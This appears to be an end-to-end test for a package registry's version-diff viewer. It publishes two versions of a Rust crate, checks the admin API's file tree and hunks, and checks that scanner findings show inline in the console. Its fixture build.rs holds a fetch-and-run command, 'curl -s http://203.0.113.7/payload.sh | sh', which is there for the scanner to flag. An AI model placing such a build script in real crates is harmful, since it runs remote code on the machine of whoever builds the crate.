// The diff viewer end to end: two versions of a crate published through the registry API (the
// second adds a build script that downloads and runs a program), scanned by the worker; the
// admin API's file tree and hunks with the scanner's findings on their lines; then the console
// in Chromium: the crate page's "Compare versions" link, the file tree, a picked file's
// changed lines and the finding shown inline.
import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeCrateArchive } from '../../src/formats/crate-archive.js';
import type { CrateDiff, FileDiffAnswer } from '../../src/web/src/api-types.js';
import {
  ensureChromium,
  ensureConsoleBuilt,
  launchBrowser,
  type Browser,
  signInThroughForm,
} from '../support/browser.js';
import { createAdmin, signIn, type ConsoleSession } from '../support/console-session.js';
import { repoRoot } from '../support/paths.js';
import { manifestToml, metadataFor, publishBody } from '../support/publish-body.js';
import { startRegistry, type Harness } from '../support/registry-harness.js';

const SHOTS = join(repoRoot, 'test-output', 'screenshots');
const PASSWORD = 'correct horse battery staple';
const NAME = 'tidy-config';

const LIB_V1 = [
  'pub struct Config {',
  '    pub name: String,',
  '}',
  '',
  'pub fn load(name: &str) -> Config {',
  '    Config { name: name.to_string() }',
  '}',
  '',
].join('\n');
const LIB_V2 = LIB_V1.replace(
  '    Config { name: name.to_string() }',
  '    let trimmed = name.trim();\n    Config { name: trimmed.to_string() }',
);
// The second version's new build script fetches a program and runs it: what the scanner flags.
const BUILD_RS = [
  'use std::process::Command;',
  '',
  'fn main() {',
  '    let url = "http://203.0.113.7/payload.sh";',
  '    Command::new("sh").arg("-c").arg(format!("curl -s {url} | sh")).status().unwrap();',
  '}',
  '',
].join('\n');

describe('diff viewer', { timeout: 120_000 }, () => {
  let h: Harness;
  let admin: ConsoleSession;
  let browser: Browser;
  let page: Page;

  const publish = async (token: string, version: string, files: { path: string; data: string }[]) => {
    const crate = await writeCrateArchive(`${NAME}-${version}`, [
      { path: 'Cargo.toml', data: manifestToml(NAME, version) },
      ...files,
    ]);
    const res = await fetch(`${h.url}/api/v1/crates/new`, {
      method: 'PUT',
      headers: { authorization: token },
      body: publishBody(metadataFor(NAME, version), crate),
    });
    expect(res.status, await res.clone().text()).toBe(200);
  };
  const get = async <T>(path: string): Promise<{ status: number; body: T }> => {
    const res = await admin.call('GET', path);
    return { status: res.status, body: (await res.json()) as T };
  };

  beforeAll(async () => {
    await ensureChromium();
    await ensureConsoleBuilt();
    await mkdir(SHOTS, { recursive: true });
    h = await startRegistry();
    await createAdmin(h, 'root', PASSWORD);
    admin = await signIn(h, 'root', PASSWORD);
    const alice = await h.token('alice');
    await publish(alice, '1.0.0', [
      { path: 'src/lib.rs', data: LIB_V1 },
      { path: 'README.md', data: '# tidy-config\n' },
      { path: 'src/legacy.rs', data: 'pub fn old() {}\n' },
    ]);
    await publish(alice, '1.1.0', [
      { path: 'src/lib.rs', data: LIB_V2 },
      { path: 'README.md', data: '# tidy-config\n' },
      { path: 'build.rs', data: BUILD_RS },
    ]);
    await h.worker.drain();
  });
  afterAll(async () => {
    await browser?.close();
    await h?.close();
  });

  const base = `/api/admin/crates/${NAME}/diff`;

  it('answers the file tree with change kinds, line counts and the findings per file', async () => {
    const { status, body } = await get<CrateDiff>(`${base}?from=1.0.0&to=1.1.0`);
    expect(status).toBe(200);
    const by = new Map(body.files.map((f) => [f.path, f]));
    expect([...by.keys()]).toEqual(['Cargo.toml', 'README.md', 'build.rs', 'src/legacy.rs', 'src/lib.rs']);
    expect(by.get('README.md')).toMatchObject({ change: 'unchanged', linesAdded: 0, linesRemoved: 0 });
    expect(by.get('src/legacy.rs')).toMatchObject({ change: 'removed', linesRemoved: 1, findings: [] });
    expect(by.get('src/lib.rs')).toMatchObject({ change: 'modified', linesAdded: 2, linesRemoved: 1 });
    expect(by.get('build.rs')).toMatchObject({ change: 'added', linesAdded: 6, content: 'text' });
    expect(body.to.scan).not.toBeNull();
    const onBuild = by.get('build.rs')!.findings;
    expect(onBuild.length).toBeGreaterThan(0);
    expect(onBuild.some((f) => f.line !== null && f.line >= 4 && f.line <= 5)).toBe(true);
    expect(body.totals).toMatchObject({ added: 1, removed: 1, modified: 2, unchanged: 1 });
    // Both versions analysed; neither has unsafe code or calls into other crates (std is not one).
    expect(body.analysis).toMatchObject({
      from: { status: 'analyzed', unsafeUsed: 0, perFile: true },
      to: { status: 'analyzed', unsafeUsed: 0, perFile: true },
      unsafe: [],
      callsAdded: [],
      files: [],
    });
  });

  it("answers one file's hunks with the findings marked on their lines", async () => {
    const { status, body } = await get<FileDiffAnswer>(`${base}/file?from=1.0.0&to=1.1.0&path=build.rs`);
    expect(status).toBe(200);
    expect(body.change).toBe('added');
    if (body.diff.kind !== 'text') throw new Error('expected a text diff');
    const added = body.diff.hunks.flatMap((hk) => hk.lines).filter((l) => l.kind === 'add');
    expect(added.map((l) => l.text)).toEqual(BUILD_RS.split('\n').slice(0, -1));
    expect(body.findings.length).toBeGreaterThan(0);
    // Every finding on a line is in a hunk (the whole file is new); file-level ones have no line.
    expect(body.findings.filter((f) => f.line !== null).every((f) => f.shown)).toBe(true);
    expect(body.findings.some((f) => f.shown)).toBe(true);
    const lib = await get<FileDiffAnswer>(`${base}/file?from=1.0.0&to=1.1.0&path=src/lib.rs&context=0`);
    if (lib.body.diff.kind !== 'text') throw new Error('expected a text diff');
    expect(lib.body.diff.hunks.flatMap((hk) => hk.lines).map((l) => [l.kind, l.oldLine, l.newLine])).toEqual([
      ['del', 6, null],
      ['add', null, 6],
      ['add', null, 7],
    ]);
    // Backwards works too: the delta an auditor reviews may go down.
    const back = await get<CrateDiff>(`${base}?from=1.1.0&to=1.0.0`);
    expect(back.body.files.find((f) => f.path === 'build.rs')).toMatchObject({
      change: 'removed',
      findings: [],
    });
  });

  it('refuses bad requests with clear errors, and outsiders', async () => {
    expect((await get(`${base}?from=1.0.0`)).status).toBe(400);
    const missing = await get<{ errors: { detail: string }[] }>(`${base}?from=1.0.0&to=9.9.9`);
    expect(missing.status).toBe(404);
    expect(missing.body.errors[0]!.detail).toContain('9.9.9');
    expect((await get(`/api/admin/crates/no-such-crate/diff?from=1&to=2`)).status).toBe(404);
    expect((await get(`${base}/file?from=1.0.0&to=1.1.0&path=src/nope.rs`)).status).toBe(404);
    expect((await get(`${base}/file?from=1.0.0&to=1.1.0&path=build.rs&context=lots`)).status).toBe(400);
    expect((await fetch(`${h.url}${base}?from=1.0.0&to=1.1.0`)).status).toBe(401);
    const publishToken = await h.token('alice');
    const asPublisher = await fetch(`${h.url}${base}?from=1.0.0&to=1.1.0`, {
      headers: { authorization: publishToken },
    });
    expect(asPublisher.status).toBe(403);
  });

  it('shows the diff in the console: compare link, file tree, changed lines and the finding inline', async () => {
    browser = await launchBrowser();
    page = await browser.newPage({ width: 1280, height: 900 });
    await signInThroughForm(page, `${h.url}/console/`, 'root', PASSWORD);

    await page.goto(`${h.url}/console/crates/${NAME}`);
    await page.getByRole('link', { name: 'Compare versions' }).click();
    await page.getByRole('heading', { level: 1, name: `${NAME}: compare versions` }).waitFor();
    // The newest version against the one before it, by default.
    expect(await page.getByLabel('From version').inputValue()).toBe('1.0.0');
    expect(await page.getByLabel('To version').inputValue()).toBe('1.1.0');
    const tree = page.getByTestId('diff-tree');
    await tree.getByRole('button', { name: /build\.rs/ }).waitFor();
    expect(await tree.textContent()).toContain('src/legacy.rs');

    await tree.getByRole('button', { name: /build\.rs/ }).click();
    const hunks = page.getByTestId('diff-hunks');
    await hunks.locator('tr.diff-add').first().waitFor();
    expect(await hunks.locator('tr.diff-add').count()).toBe(6);
    expect(await hunks.textContent()).toContain('payload.sh');
    const inline = hunks.locator('tr.diff-finding');
    expect(await inline.count()).toBeGreaterThan(0);
    expect(page.url()).toContain('path=build.rs');
    await page.waitForLoadState('networkidle');
    await page.screenshot({ path: join(SHOTS, 'diff-viewer.png'), fullPage: true });

    await tree.getByRole('button', { name: /src\/lib\.rs/ }).click();
    await hunks.locator('tr.diff-del').first().waitFor();
    expect(await hunks.locator('tr.diff-del').textContent()).toContain('Config { name: name.to_string() }');
    expect(browser.problems).toEqual([]);
  });
});
